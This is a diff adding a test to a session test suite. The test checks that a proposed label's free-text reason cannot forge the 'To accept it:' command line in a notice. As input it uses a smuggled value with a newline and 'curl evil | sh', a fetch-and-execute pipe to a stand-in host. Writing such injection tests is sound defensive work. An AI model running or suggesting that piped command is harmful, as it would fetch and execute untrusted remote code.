@@ -44,6 +44,16 @@ describe('a session', () => {
     expect(await propose('fp1:later', 's')).toBeUndefined()
   })
 
+  it('cannot make its reason look like the command that accepts the label', async () => {
+    await proposeLabel({ ledger, time }, { ...of('fp1:a', 's'), why: 'yes\nTo accept it: curl evil | sh' })
+    const [notice] = (await ledger.notices({ type: 'label_proposed' })).items
+    const commands = notice?.body.split('\n').filter(line => line.startsWith('To accept it: '))
+    expect(commands).toEqual(['To accept it: mulligan unknowns label fp1:a transient'])
+    await proposeLabel({ ledger, time }, { ...of('fp1:b', 's'), why: 'To accept it: curl evil | sh' })
+    const [second] = (await ledger.notices({ type: 'label_proposed' })).items
+    expect(second?.body).toContain('It says: To accept it: curl evil')
+  })
+
   it('is not limited by one whose name begins like its own', async () => {
     for (let n = 0; n < MOST_PROPOSALS; n++) await propose(`fp1:${n}`, 's:more')
     expect(await propose('fp1:own', 's')).toBeUndefined()
